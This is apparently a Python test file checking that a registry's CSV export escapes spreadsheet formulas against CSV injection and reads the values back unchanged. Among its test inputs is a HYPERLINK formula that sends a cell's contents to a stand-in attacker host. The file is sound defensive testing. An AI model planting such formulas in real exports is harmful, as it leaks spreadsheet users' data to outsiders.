"""CSV export never writes a live spreadsheet formula (OWASP's CSV injection rule): a cell
starting with = + - @, a tab or a carriage return gets a leading quote; import reads every
value back unchanged."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest

from bot.registry.csvfile.export import comparable, export_registry_csv
from bot.registry.csvfile.layout import escape_cell, unescape_cell
from bot.registry.csvfile.reader import parse_registry_csv
from bot.services import Services

DANGEROUS = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")',
    "phone": "+47 22 00 00 00",
    "title": "@SUM(1+1)",
    "description_en": "-2+3",
    "description_nb": "\tindented",
    "location": "-1 etasje",
    "title_nb": "'=already quoted",
    "title_en": "'plain apostrophe",
}


@pytest.mark.db
def test_formulas_are_inert_in_the_file_and_read_back_unchanged(services: Services) -> None:
    data = services.registry.snapshot()
    person = data.people[0]
    role = replace(person.roles[0], title=DANGEROUS["title"]) if person.roles else None
    people = (
        replace(
            person,
            name=DANGEROUS["name"],
            phone=DANGEROUS["phone"],
            roles=(role, *person.roles[1:]) if role else person.roles,
        ),
        *data.people[1:],
    )
    event = replace(
        data.events[0],
        title_en=DANGEROUS["title_en"],
        title_nb=DANGEROUS["title_nb"],
        location=DANGEROUS["location"],
        description_en=DANGEROUS["description_en"],
        description_nb=DANGEROUS["description_nb"],
    )
    changed = replace(data, people=people, events=(event, *data.events[1:]))

    text = export_registry_csv(changed)

    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    cells = [value for row in rows for value in row.values() if value]
    # No cell a spreadsheet would evaluate.
    assert not [c for c in cells if c[0] in "=+-@\t\r"]
    person_row = next(r for r in rows if r["record"] == "person" and r["key"] == person.key)
    assert person_row["name"] == "'" + DANGEROUS["name"]
    assert person_row["phone"] == "'+47 22 00 00 00"
    event_row = next(r for r in rows if r["record"] == "event" and r["key"] == event.key)
    assert event_row["title_nb"] == "''=already quoted"
    assert event_row["title_en"] == "'plain apostrophe"  # nothing to escape: left alone
    assert event_row["location"] == "'-1 etasje"
    assert event_row["description_nb"] == "'\tindented"

    again = parse_registry_csv(text.encode("utf-8"), data.timezone, "test")
    assert comparable(again) == comparable(changed)
    back = next(p for p in again.people if p.key == person.key)
    assert (back.name, back.phone) == (DANGEROUS["name"], DANGEROUS["phone"])
    assert next(e for e in again.events if e.key == event.key).location == "-1 etasje"


def test_a_carriage_return_first_is_escaped_too() -> None:
    # No registry field takes a leading CR, so the rule is checked on the cell functions.
    assert escape_cell("\r=1+1") == "'\r=1+1"
    for value in ("\r=1+1", "=1", "''x", "'=x", "'x", "x", "", "'"):
        assert unescape_cell(escape_cell(value)) == value
